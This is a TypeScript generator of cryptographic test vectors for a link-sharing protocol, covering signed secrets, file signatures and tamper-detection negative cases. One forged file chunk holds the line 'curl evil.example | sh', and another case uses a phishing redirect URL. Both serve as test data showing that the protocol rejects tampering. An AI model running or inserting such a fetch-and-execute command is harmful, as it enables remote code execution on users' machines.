/**
 * An independent reference for the `signed` section of vectors.json (protocol.md §4–§6,
 * format 2): Node's own crypto (hkdfSync, createCipheriv, argon2Sync, ECDSA through
 * KeyObject) with nothing imported from shared/src. ECDSA signatures are randomised, so a
 * signature is an input: `signedSection(previous)` keeps each signature of `previous` that
 * still verifies over the same message and makes a new one only where none does.
 * vectors.json's section is exactly `signedSection(itself)` (signed-reference.test.ts checks
 * it); to change the vectors, change this file and write `signedSection(old)` into the JSON.
 */
import {
  argon2Sync,
  createCipheriv,
  createHash,
  createPrivateKey,
  createPublicKey,
  hkdfSync,
  sign,
  verify,
  type JsonWebKey,
} from 'node:crypto'
import { aadOf, chunkPlaintext, gcm, layout, nonceOf } from './files-reference.ts'

const L = 'burnlink/v1'
const FRAME_SIZES = [256, 512, 1024, 2048, 4096, 8192, 16384, 32768, 65536]

const hex = (b: Uint8Array) => Buffer.from(b).toString('hex')
const b64u = (b: Uint8Array) => Buffer.from(b).toString('base64url')
const fromHex = (h: string) => Buffer.from(h, 'hex')
const sha256 = (b: Uint8Array) => createHash('sha256').update(b).digest()
const hkdf = (ikm: Uint8Array, salt: Uint8Array, purpose: string, bytes: number) =>
  Buffer.from(hkdfSync('sha256', ikm, salt, `${L} ${purpose}`, bytes))
const flipBit = (b: Uint8Array, bit: number) => {
  const out = Buffer.from(b)
  out[bit >> 3]! ^= 1 << (bit & 7)
  return out
}

/** Two fixed P-256 keys: the creators of the two vectors; `b` also plays the other link holder. */
const KEYS: Record<'a' | 'b', JsonWebKey> = {
  a: {
    kty: 'EC',
    crv: 'P-256',
    x: 'K7R0KV7jKHnMthUe7YKbCLXaxHkE_sZx_0wRzQwVVS8',
    y: '4quHcP0qvApsLLwXBit1NXUfN2RS2V4gaNX5920Z3IA',
    d: 'VGZDsxAU1SYaS7n0OkCfZjFuSe5XFZuCcD-Xslr9aWE',
  },
  b: {
    kty: 'EC',
    crv: 'P-256',
    x: 'mnfb9T6DQD3E91NSZEOoYGKUymnoYUUi0MosfSwNWzs',
    y: 'qTRjG0DB1iHb0QRKb-maQM0dKUnMkvtO2ozszzRSDLM',
    d: 'MQQM2RFQCMKjYWUspkcDhhh0NSvNpOfFHigYN6bO-_Q',
  },
}

const publicPoint = (jwk: JsonWebKey) =>
  Buffer.concat([Buffer.of(4), Buffer.from(jwk.x!, 'base64url'), Buffer.from(jwk.y!, 'base64url')])

function signedMessage(sid: Uint8Array, hdrs: Uint8Array, ct: Uint8Array): Buffer {
  return Buffer.concat([Buffer.from(`${L} sign`), Buffer.of(0), sid, hdrs, ct])
}

function verifies(pk: Uint8Array, message: Uint8Array, sig: Uint8Array): boolean {
  try {
    const key = createPublicKey({
      key: { kty: 'EC', crv: 'P-256', x: b64u(pk.subarray(1, 33)), y: b64u(pk.subarray(33)) },
      format: 'jwk',
    })
    return verify('sha256', message, { key, dsaEncoding: 'ieee-p1363' }, sig)
  } catch {
    return false
  }
}

/** `previous` when it verifies over `message`, else a fresh signature. */
function signature(jwk: JsonWebKey, message: Uint8Array, previous: string | undefined): Buffer {
  if (previous !== undefined && verifies(publicPoint(jwk), message, fromHex(previous))) return fromHex(previous)
  return sign('sha256', message, { key: createPrivateKey({ key: jwk, format: 'jwk' }), dsaEncoding: 'ieee-p1363' })
}

function seal(cek: Uint8Array, nonce: Uint8Array, aad: Uint8Array, type: number, text: string): Buffer {
  const payload = Buffer.from(text)
  const frame = Buffer.alloc(FRAME_SIZES.find((f) => f >= payload.length + 5)!)
  frame[0] = type
  frame.writeUInt32BE(payload.length, 1)
  payload.copy(frame, 5)
  const cipher = createCipheriv('aes-256-gcm', cek, nonce).setAAD(aad)
  return Buffer.concat([nonce, cipher.update(frame), cipher.final(), cipher.getAuthTag()])
}

interface Inputs {
  k: string
  mt: string
  nonce: string
  type: number
  payload_text: string
  signer: 'a' | 'b'
  signer_jwk: JsonWebKey
  sig: string
  salt?: string
  m?: number
  t?: number
  p?: number
  passphrase?: string
}

const CASES: Omit<Inputs, 'signer_jwk' | 'sig'>[] = [
  {
    k: '000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f',
    mt: '202122232425262728292a2b2c2d2e2f303132333435363738393a3b3c3d3e3f',
    nonce: '404142434445464748494a4b',
    type: 1,
    payload_text: 'correct horse battery staple',
    signer: 'a',
  },
  {
    k: '606162636465666768696a6b6c6d6e6f707172737475767778797a7b7c7d7e7f',
    mt: '808182838485868788898a8b8c8d8e8f909192939495969798999a9b9c9d9e9f',
    nonce: 'a0a1a2a3a4a5a6a7a8a9aaab',
    type: 2,
    payload_text: 'https://example.com/welcome',
    signer: 'b',
    salt: 'b0b1b2b3b4b5b6b7b8b9babbbcbdbebf',
    m: 19456,
    t: 2,
    p: 1,
    passphrase: 'correct horse',
  },
]

const NAMES = ['signed-text-nopass', 'signed-redirect-argon2id']

function kdfBytes(i: Omit<Inputs, 'signer_jwk' | 'sig'>, format: number): Buffer {
  if (i.salt === undefined) return Buffer.of(format, 0)
  const out = Buffer.alloc(24)
  out[0] = format
  out[1] = 1
  out.writeUInt32BE(i.m!, 2)
  out[6] = i.t!
  out[7] = i.p!
  fromHex(i.salt).copy(out, 8)
  return out
}

interface Secret {
  k: Buffer
  pkh: Buffer
  sid: Buffer
  cek: Buffer
  hdrs: Buffer
  hdr: Buffer
  ct: Buffer
  link: string
}

function vector(c: Omit<Inputs, 'signer_jwk' | 'sig'>, name: string, previousSig: string | undefined) {
  const jwk = KEYS[c.signer]
  const k = fromHex(c.k)
  const pk = publicPoint(jwk)
  const pkh = sha256(pk).subarray(0, 16)
  const sid = hkdf(k, pkh, 'sid v2', 16)
  const acc = hkdf(k, Buffer.alloc(0), 'access', 32)
  const P =
    c.passphrase === undefined
      ? Buffer.alloc(0)
      : argon2Sync('argon2id', {
          message: Buffer.from(c.passphrase.normalize('NFC')),
          nonce: fromHex(c.salt!),
          parallelism: c.p!,
          tagLength: 32,
          memory: c.m!,
          passes: c.t!,
        })
  const ikm = Buffer.concat([k, P])
  const rev = hkdf(ikm, sid, 'reveal', 32)
  const cek = hkdf(ikm, sid, 'content', 32)
  const hdrs = Buffer.concat([kdfBytes(c, 2), pk])
  const aad = Buffer.concat([Buffer.from(`${L} content`), Buffer.of(0), sid, hdrs])
  const ct = seal(cek, fromHex(c.nonce), aad, c.type, c.payload_text)
  const message = signedMessage(sid, hdrs, ct)
  const sig = signature(jwk, message, previousSig)
  const hdr = Buffer.concat([hdrs, sig])
  const link = `2.${b64u(k)}.${b64u(pkh)}`
  const outputs: Record<string, string> = {
    pk: hex(pk),
    pkh: hex(pkh),
    sid: hex(sid),
    sid_b64u: b64u(sid),
    acc: hex(acc),
    rev: hex(rev),
    cek: hex(cek),
    av: hex(sha256(acc)),
    rv: hex(sha256(rev)),
    mv: hex(sha256(fromHex(c.mt))),
    hdrs: hex(hdrs),
    hdr: hex(hdr),
    aad: hex(aad),
    m_sha256: hex(sha256(message)),
    ct_b64u: b64u(ct),
    link_fragment: link,
    manage_fragment: `1.${b64u(sid)}.${b64u(fromHex(c.mt))}`,
  }
  if (P.length > 0) outputs.P = hex(P)
  const inputs = { ...c, signer_jwk: jwk, sig: hex(sig) }
  const secret: Secret = { k, pkh, sid, cek, hdrs, hdr, ct, link }
  return { entry: { name, inputs, outputs }, secret }
}

export interface SignedNegative {
  name: string
  link_fragment: string
  hdr: string
  ct_b64u: string
  passphrase?: string
  error: string
  why: string
}

interface Previous {
  vectors: { inputs: { sig: string } }[]
  negative: SignedNegative[]
  files?: {
    vector: { inputs: { sig: string; fsig_sig: string } }
    negative: { name: string; fsig_b64u?: string }[]
  }
}

/** The sig at the end of a previous negative's hdr, for `signature` to keep when it still verifies. */
function previousNegativeSig(previous: Previous | undefined, name: string): string | undefined {
  const hdr = previous?.negative.find((n) => n.name === name)?.hdr
  return hdr === undefined ? undefined : hdr.slice(-128)
}

function negatives(a: Secret, b: Secret, previous: Previous | undefined): SignedNegative[] {
  const ct = b64u(a.ct)
  const hdrBits = a.hdr.length * 8
  // Another link holder's content under a's sid and cek, signed with their own key (b's).
  const other = (() => {
    const hdrs = Buffer.concat([Buffer.of(2, 0), publicPoint(KEYS.b)])
    const aad = Buffer.concat([Buffer.from(`${L} content`), Buffer.of(0), a.sid, hdrs])
    const forged = seal(a.cek, Buffer.alloc(12, 7), aad, 2, 'https://phish.example/login')
    const name = 'recreated-by-another-link-holder'
    const sig = signature(KEYS.b, signedMessage(a.sid, hdrs, forged), previousNegativeSig(previous, name))
    return { name, hdr: hex(Buffer.concat([hdrs, sig])), ct_b64u: b64u(forged) }
  })()
  const unsigned = (() => {
    const hdr = Buffer.of(1, 0)
    const aad = Buffer.concat([Buffer.from(`${L} content`), Buffer.of(0), a.sid, hdr])
    return { hdr: hex(hdr), ct_b64u: b64u(seal(a.cek, Buffer.alloc(12, 9), aad, 1, 'unsigned')) }
  })()
  const badPoint = Buffer.concat([a.hdrs.subarray(0, 2), Buffer.of(4), Buffer.alloc(64, 0xff)])
  const badPointPkh = sha256(badPoint.subarray(2)).subarray(0, 16)
  const why = (name: string, error: string, text: string, fields: Partial<SignedNegative>): SignedNegative => ({
    name,
    link_fragment: a.link,
    hdr: hex(a.hdr),
    ct_b64u: ct,
    ...fields,
    error,
    why: text,
  })
  return [
    why('signature-bit-flipped', 'signature', 'one bit of sig flipped', { hdr: hex(flipBit(a.hdr, hdrBits - 3)) }),
    why('signature-zero', 'signature', 'sig all zero bytes (r = s = 0)', {
      hdr: hex(Buffer.concat([a.hdrs, Buffer.alloc(64)])),
    }),
    why('ct-bit-flipped', 'signature', 'one bit of ct flipped: the signature fails before the tag is tried', {
      ct_b64u: b64u(flipBit(a.ct, 200)),
    }),
    why('pk-bit-flipped', 'signature', "one bit of pk's x flipped: it no longer hashes to the link's pkh", {
      hdr: hex(flipBit(a.hdr, 3 * 8 + 5)),
    }),
    why(
      'recreated-by-another-link-holder',
      'signature',
      "a redirect sealed under the link's cek, signed by key b: b's pk does not hash to pkh",
      {
        hdr: other.hdr,
        ct_b64u: other.ct_b64u,
      },
    ),
    why('link-names-another-key', 'signature', "the link's pkh is b's: a's header does not match it", {
      link_fragment: `2.${b64u(a.k)}.${b64u(b.pkh)}`,
    }),
    why(
      'unsigned-header-under-signed-link',
      'signature',
      'a format 1 header (no signature) under a format 2 link',
      unsigned,
    ),
    why('signed-header-under-unsigned-link', 'header', 'a format 2 header under a format 1 link', {
      link_fragment: `1.${b64u(a.k)}`,
    }),
    why(
      'pk-not-on-the-curve',
      'signature',
      "pk (0x04, then 64 bytes of 0xff) is no P-256 point; the link's pkh is its hash",
      {
        link_fragment: `2.${b64u(a.k)}.${b64u(badPointPkh)}`,
        hdr: hex(Buffer.concat([badPoint, Buffer.alloc(64, 1)])),
      },
    ),
    why('hdr-salt-bit-flipped', 'signature', 'one bit of the Argon2id salt flipped: hdrs is signed', {
      link_fragment: b.link,
      hdr: hex(flipBit(b.hdr, 8 * 8)),
      ct_b64u: b64u(b.ct),
      passphrase: 'correct horse',
    }),
  ]
}

export function signedSection(previous?: Previous) {
  const built = CASES.map((c, i) => vector(c, NAMES[i]!, previous?.vectors[i]?.inputs.sig))
  return {
    description:
      'protocol.md §4–§6, format 2: each secret signed by a fixed P-256 key (inputs.signer_jwk). ECDSA is randomised, so inputs.sig is one valid signature a verifier must accept; an implementation that signs makes another, which must verify. negative: opened through the link fragment, hdr, passphrase and ct_b64u as a recipient does; error is the reason every check-order-following client reports.',
    vectors: built.map((b) => b.entry),
    negative: negatives(built[0]!.secret, built[1]!.secret, previous),
    files: filesSignature(previous),
  }
}

/** A format 2 file secret (protocol.md §10.7): a one-chunk file and a two-chunk one, signed by key a. */
const FILES_CASE: Omit<Inputs, 'signer_jwk' | 'sig'> = {
  k: 'c0c1c2c3c4c5c6c7c8c9cacbcccdcecfd0d1d2d3d4d5d6d7d8d9dadbdcdddedf',
  mt: 'e0e1e2e3e4e5e6e7e8e9eaebecedeeeff0f1f2f3f4f5f6f7f8f9fafbfcfdfeff',
  nonce: '505152535455565758595a5b',
  type: 3,
  payload_text: '',
  signer: 'a',
}
const FILES = [
  { name: 'id_ed25519', type: '', size: 100, fill: 5 },
  { name: 'backup.tar', type: 'application/x-tar', size: 1_048_577, fill: 6 },
]

/** MF = L ‖ " files" ‖ 0x00 ‖ sid ‖ hdr ‖ D_0 ‖ … ‖ D_{F−1}. */
const filesMessage = (sid: Uint8Array, hdr: Uint8Array, digests: Uint8Array[]) =>
  Buffer.concat([Buffer.from(`${L} files`), Buffer.of(0), sid, hdr, ...digests])

function filesSignature(previous: Previous | undefined) {
  const manifest = JSON.stringify({ files: FILES.map(({ name, type, size }) => ({ name, type, size })) })
  const { entry, secret } = vector(
    { ...FILES_CASE, payload_text: manifest },
    'signed-two-files',
    previous?.files?.vector.inputs.sig,
  )
  const { sid, hdr } = secret
  const fk = hkdf(secret.k.subarray(0, 32), sid, 'file', 32)
  const ut = hkdf(secret.k.subarray(0, 32), Buffer.alloc(0), 'upload', 32)
  const sealAt = (f: number, j: number, plaintext: Buffer) => {
    const { chunks } = layout(FILES[f]!.size)
    return gcm(fk, nonceOf(f, j, j === chunks - 1), aadOf(sid, hdr, FILES.length, chunks), plaintext)
  }
  const stored = FILES.map((f, i) =>
    Array.from({ length: layout(f.size).chunks }, (_, j) => sealAt(i, j, chunkPlaintext(f.size, f.fill, j))),
  )
  const chunkDigests = stored.map((chunks) => chunks.map(sha256))
  const digestsOf = (c: Buffer[][]) => c.map((list) => sha256(Buffer.concat(list)))
  const digests = digestsOf(chunkDigests)
  const message = filesMessage(sid, hdr, digests)
  const previousFsig = (name: string) => {
    const b = previous?.files?.negative.find((n) => n.name === name)?.fsig_b64u
    return b === undefined ? undefined : hex(Buffer.from(b, 'base64url').subarray(-64))
  }
  const sigF = signature(KEYS.a, message, previous?.files?.vector.inputs.fsig_sig)
  const fsig = Buffer.concat([...digests, sigF])
  // A link holder's own bytes for file 0, sealed under fk where the creator's chunk was: its tag is valid.
  const script = Buffer.alloc(layout(FILES[0]!.size).padded)
  script.write('#!/bin/sh\ncurl evil.example | sh\n')
  const forged = sealAt(0, 0, script)
  const forgedDigests = digestsOf([[sha256(forged)], chunkDigests[1]!])
  const otherDigests = digests.map((d) => flipBit(d, 0))
  const overOther = signature(KEYS.a, filesMessage(sid, hdr, otherDigests), previousFsig('sig-over-other-digests'))
  const byB = signature(KEYS.b, filesMessage(sid, hdr, forgedDigests), previousFsig('signed-by-another-key'))
  const negative = (
    name: string,
    error: string,
    why: string,
    fields: { fsig_b64u?: string; file?: number; replace?: { chunk: number; stored_b64u: string } },
  ) => ({
    name,
    ...fields,
    error,
    why,
  })
  return {
    description:
      "protocol.md §10.7: a format 2 file secret (its manifest signed as in §5.1 by key a) and the files signature its creator sends at the commit. chunk_digests[f][j] = SHA-256 of stored chunk j of file f, file_digests[f] = SHA-256 of their concatenation, files_message = MF, fsig_b64u = D_0 ‖ D_1 ‖ sig. Byte i of file f is (i + fill) mod 251, as in the files section. negative: fsig_b64u as a reveal returns it (absent: none), checked right after the reveal against the vector's link and hdr; with file and replace, the creator's fsig is good and file `file` is read with chunk `replace.chunk` replaced by those bytes.",
    vector: {
      ...entry,
      inputs: { ...entry.inputs, files: FILES, fsig_sig: hex(sigF) },
      outputs: {
        ...entry.outputs,
        fk: hex(fk),
        ut_b64u: b64u(ut),
        uv: hex(sha256(ut)),
        stored: FILES.map((f) => layout(f.size).stored),
        chunk_digests: chunkDigests.map((list) => list.map(hex)),
        file_digests: digests.map(hex),
        files_message: hex(message),
        fsig_b64u: b64u(fsig),
      },
    },
    negative: [
      negative('no-fsig', 'signature', 'a reveal without fsig under a format 2 link', {}),
      negative('truncated', 'signature', 'the last byte of fsig cut off', { fsig_b64u: b64u(fsig.subarray(0, -1)) }),
      negative('digest-bit-flipped', 'signature', "one bit of D_0 flipped, the creator's sig kept", {
        fsig_b64u: b64u(flipBit(fsig, 0)),
      }),
      negative('sig-over-other-digests', 'signature', "the true digests with a's signature over other digests", {
        fsig_b64u: b64u(Buffer.concat([...digests, overOther])),
      }),
      negative('signed-by-another-key', 'signature', "a link holder's digests of their own chunks, signed by key b", {
        fsig_b64u: b64u(Buffer.concat([...forgedDigests, byB])),
      }),
      negative(
        'chunk-replaced-by-link-holder',
        'files_digest',
        "file 0's chunk replaced by one sealed under fk (its tag is valid) with the creator's fsig",
        {
          fsig_b64u: b64u(fsig),
          file: 0,
          replace: { chunk: 0, stored_b64u: b64u(forged) },
        },
      ),
    ],
  }
}
